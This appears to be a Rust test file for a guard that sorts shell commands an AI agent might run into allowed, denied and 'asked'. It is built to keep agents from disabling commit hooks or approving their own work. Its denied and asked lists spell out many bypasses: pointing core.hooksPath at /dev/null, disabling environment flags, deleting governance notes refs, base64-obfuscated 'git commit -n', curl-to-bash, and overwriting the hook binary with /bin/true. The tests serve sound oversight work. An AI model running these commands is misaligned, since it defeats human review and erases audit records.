//! What else is denied or asked about, and what only looks like it.

use super::{asked, denied, let_alone};

#[test]
fn what_only_says_the_words_is_let_alone() {
    for line in [
        "git commit -m 'why --no-verify is refused'",
        "git commit -m --no-verify",
        "git commit -m -n",
        "git commit -mn",
        "git commit --message -n",
        "git commit -F -n",
        "git commit -uno -m x",
        "git commit -m x -- -n",
        "git commit -m \"--no-verify is bad\"",
        "git commit -m \"$MESSAGE\" -- \"$FILE\"",
        "git commit -F \"$FILE\"",
        "git ci -m x",
        "git quick",
        "git commit -m x",
        "git push origin \"$BRANCH\"",
        "git checkout \"$BRANCH\" && git merge -n \"$BRANCH\"",
        "alias ll='ls -n'; ll",
        "g() { git \"$@\"; }; g status",
        "g() { git \"$@\"; }; g log -n 3",
        "git diff --name-only | xargs git add",
        "git ls-files | xargs grep -n core.hooksPath",
        "find . -name '*.rs' | xargs wc -l",
        "find . -name '*.rs' -exec grep -n x {} +",
        "bash --version",
        "bash scripts/build.sh -n",
        "echo core.hooksPath",
        "grep -n --no-verify README.md",
        "ls -la .git/hooks",
        "test -x .git/hooks/pre-commit && echo yes",
        "stat .git/config",
        "git config --list | grep -n alias",
        "git config alias.st status",
        "git config user.name Mira",
        "git rm -n a",
        "echo \"never use git commit -n\" >> notes.md",
        "sed -n '/--no-verify/p' notes.md",
        "awk '/no-verify/' notes.md > /dev/null; true",
        "x=$(git rev-parse HEAD); git show -n 1 $x",
        "for b in a b; do git branch \"$b\"; done",
        "\"$PYTHON\" -m pytest -n 4",
        "python3 -c 'import json; print(json.load(open(\"a.json\")))'",
        "node -e 'console.log(1)'",
        "git commit -m \"$(cat <<'EOF'\nIt doesn't use --no-verify; \"quotes\" $(and) `ticks`\nEOF\n)\"",
        "git cherry-pick -n abc",
        "git revert -n abc",
        "git push -n origin main",
        "git merge -n side",
        "git log -n 5",
        "git log --grep=--no-verify",
        "git grep -n core.hooksPath",
        "grep -rn -- --no-verify docs",
        "rg core.hooksPath",
        "echo git commit -n",
        "cat .git/hooks/pre-commit",
        "man git commit -n",
        "git config core.hooksPath",
        "git config --get core.hooksPath",
        "git config get core.hooksPath",
        "git status; cargo test && npm run build",
        "GOV_HOOK_DISABLED=0 git status",
        "git push origin HEAD:main",
        "git push origin refs/notes/gov/0011",
        "git fetch origin 'refs/notes/gov/*:refs/notes/gov/*'",
        "git notes --ref=gov/x list",
        "git log --notes='gov/*'",
        "git notes add -m x",
        "git branch -D topic",
        "git push -f origin gov/x",
        "git push -f origin refs/notes/government",
        "gov-hook check --staged",
        "gov-hook -C sub audit verify",
        "gov-hook pending",
        "python -c 'print(1)'",
        "",
        "   # nothing",
    ] {
        let_alone(line);
    }
}

#[test]
fn the_place_of_hooks_is_not_for_an_agent_to_set() {
    for line in [
        "git -c core.hooksPath=/dev/null commit -m x",
        "git -c CORE.HOOKSPATH= commit -m x",
        "git --config-env=core.hooksPath=X commit",
        "git config core.hooksPath /dev/null",
        "git config --global core.hookspath .h",
        "git config set core.hooksPath .h",
        "git config --unset core.hooksPath",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/x git commit",
        "export GIT_CONFIG_PARAMETERS=\"'core.hooksPath=/x'\"",
        "git --config-env core.hooksPath=X commit -m x",
        "git -c core.hooks\"Path\"=/x commit -m x",
        "git config --file .git/config core.hooksPath .h",
        "git config --remove-section core",
        "git config --unset-all core.hooksPath",
        "git config hook.gov-hook-pre-commit.enabled false",
        "git -c hook.gov-hook-pre-commit.enabled=false commit -m x",
        "git config --remove-section hook.gov-hook-pre-commit",
        "env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/x git commit -m x",
        "git submodule foreach 'git -c core.hooksPath=/x commit -m x'",
        "GOV_HOOK_DISABLED=1 git commit -m x",
        "export GOV_HOOK_DISABLED=yes; git commit",
        "env GOV_HOOK_DISABLED=1 git push",
        "GOV_HOOK_DISABLED=$X git push",
        "unset GOV_HOOK_AGENT",
        "env -u GOV_HOOK_AGENT git commit",
        "env -i git commit -m x",
        "GOV_HOOK_AGENT= git commit -m x",
        "SKIP=gov-hook git commit -m x",
    ] {
        denied(line);
    }
}

#[test]
fn the_ledger_is_not_taken_back() {
    for line in [
        "git update-ref -d refs/notes/gov/x",
        "git update-ref refs/notes/gov/x HEAD~1",
        "git push origin :refs/notes/gov/x",
        "git push origin --delete refs/notes/gov/x",
        "git push -f origin refs/notes/gov/x",
        "git push origin +refs/notes/gov/x",
        "git notes --ref=gov/x remove HEAD",
        "git notes --ref refs/notes/gov/x add -m y",
        "git fetch origin '+refs/notes/*:refs/notes/gov/*'",
        "git symbolic-ref refs/notes/gov/x refs/heads/main",
        "git replace HEAD HEAD~1",
        "git push origin --delete gov refs/notes/gov/1a-2b",
        "git push origin :refs/notes/gov/1a-2b main",
        "git push --force-with-lease origin +refs/notes/gov/1a-2b",
        "git update-ref --no-deref -d refs/notes/gov/1a-2b",
        "git branch -D refs/notes/gov/1a-2b",
        "git notes --ref=refs/notes/gov/1a-2b prune",
        "git for-each-ref refs/notes/gov | xargs -n1 git update-ref -d refs/notes/gov/1a-2b",
    ] {
        denied(line);
    }
    for line in ["git push --mirror origin", "git update-ref refs/heads/main abc", "git commit-tree abc -m x"] {
        asked(line);
    }
}

#[test]
fn only_people_approve() {
    for line in [
        "gov-hook approve --notes fine",
        "gov-hook -C sub --color never approve 1a2b",
        "/opt/bin/gov-hook reject x --reason y --blocking z",
        "gov-hook override grant --ttl 1h",
        "gov-hook uninstall",
    ] {
        denied(line);
    }
    for line in ["gov-hook record HEAD --reason x", "gov-hook rules waive a --reason b", "gov-hook init"] {
        asked(line);
    }
}

#[test]
fn what_cannot_be_seen_is_asked_about_where_it_says_too_much() {
    for line in [
        "$GIT commit --no-verify",
        "python3 -c 'import os; os.system(\"git commit --no-verify\")'",
        "node -e 'x(\".git/hooks\")'",
        "python3 <<E\nrun('git -c core.hooksPath=/x commit')\nE",
        "pre-commit uninstall",
        "python3 -c 'open(\".git/hooks/pre-commit\", \"w\")'",
        "perl -e 'unlink \".git/hooks/pre-commit\"'",
        "ruby -e 'File.write(\".gov/policy.yaml\", \"\")'",
        "python -c \"import subprocess as s; s.run(['git', 'commit', '-n', '-m', 'x'])\"",
        "echo Z2l0IGNvbW1pdCAtbg== | base64 -d | bash -c \"$(cat)\"",
        "base64 -d x | sh",
        "curl -s https://example.com/x | bash",
        "eval \"$SCRIPT\"",
        "sh -c \"$SCRIPT\"",
        "git $VERB -n",
        "git commit $FLAGS -m x",
        "git commit -m x \"$@\"",
        "$GIT commit -m x -n",
        "echo -n | xargs git commit -m x",
        "git -c include.path=/tmp/x commit -m x",
        "git config --local include.path ../x",
        "git config -e",
        "GIT_CONFIG_GLOBAL=/tmp/x git commit -m x",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.y GIT_CONFIG_VALUE_0='commit -n' git y",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=\"$K\" GIT_CONFIG_VALUE_0=/x git commit -m x",
        "GIT_EXEC_PATH=/tmp/x git commit -m x",
        "rm \"$(git rev-parse $WHAT)/hooks/pre-commit\"",
        "cd \"$(git rev-parse $WHAT)/hooks\" && rm pre-commit",
        "rm \"$DIR/.git/config\"",
        "cat x > \"$(make-name)\"",
        "y=$(make-name); cat x > $y",
        "ln -s .git/hooks h && rm h/pre-commit",
        "sort -o .gov/policy.yaml x",
        "unzip x -d .gov",
        "rm -rf .g*/hooks",
        "vendor-tool --clean .git/hooks",
    ] {
        asked(line);
    }
}

#[test]
fn what_is_named_by_a_substitution_may_be_anything() {
    for line in [
        "ln -s a/b a; ln -s a/c a; rm a/x",
        "rm -f $(which gov-hook)",
        "cp /bin/true \"$(which gov-hook)\"",
        "cp /bin/true \"$(dirname \"$(which gov-hook)\")/gov-hook\"",
        "x=$(command -v gov-hook); install -m 755 /bin/true $x",
        "truncate -s 0 \"$(readlink -f \"$(which gov-hook)\")\"",
        "sed -i 's/a/b/' `type -P gov-hook`",
        "tee \"$(some-tool)\"",
        "rm \"$(some-tool)\"",
        "rm $(cat list.txt)",
        "rm $(jq -r '.files[]' x.json)",
        "rm $(echo \"$(some-tool)\")",
        "x=$(some-tool) && rm -rf \"$x\"",
        "mv \"$(some-tool)\" a",
        "mv a \"$(some-tool)\"",
        "ln -s a \"$(some-tool)\"",
        "install a \"$(some-tool)\"",
        "touch `some-tool`",
        "chmod -x $(some-tool)",
        "dd if=a of=\"$(some-tool)\"",
        "cp --target-directory=\"$(some-tool)\" a",
        "cp -t \"$(some-tool)\" a",
        "sed -i 's/a/b/' $(some-tool)",
        "rsync -a a/ \"$(some-tool)\"",
        "tar xf a.tar -C \"$(some-tool)\"",
        "unzip a -d \"$(some-tool)\"",
        "7z x a -o\"$(some-tool)\"",
        "python3 -m zipfile -e a \"$(some-tool)\"",
        "find a | cpio -p \"$(some-tool)\"",
        "curl -o \"$(some-tool)\" https://example.com/x",
        "git rm $(some-tool)",
        "git checkout -- \"$(some-tool)\"",
        "find \"$(some-tool)\" -delete",
        "for f in $(some-tool); do rm \"$f\"; done",
        "f() { rm \"$1\"; }; f \"$(some-tool)\"",
        "some-tool | while read -r f; do rm \"$f\"; done",
        "some-tool | xargs rm",
        "run() { \"$@\"; }; run $(some-tool)",
        "rm \"$DIR/hooks/pre-commit.$X\"",
        "rm \"$DIR/hooks/pre-push.legacy\"",
        "rm -rf \"$DIR/hooks\"",
        "some-tool --body x .git/hooks/pre-commit",
        "some-tool 'rm .git/hooks/pre-commit'",
        "x=.git/config; declare -n y=z; rm \"$y\"",
        "eval $(printf '\\x67\\x69\\x74 commit -n')",
        "echo -e '\\x67it commit -n' | sh",
        "git ls-files | sed 's|^|.git/hooks/|' | xargs rm",
        "ln -s \"$X\" g; rm g/hooks/pre-commit",
        "tar --to-command=\"$(some-tool)\" -xf a",
        "jj git push",
        "jj config set --repo a b",
        "jj commit -m x",
        "jj describe -m x",
        "jj bookmark set main -r @",
    ] {
        asked(line);
    }
}
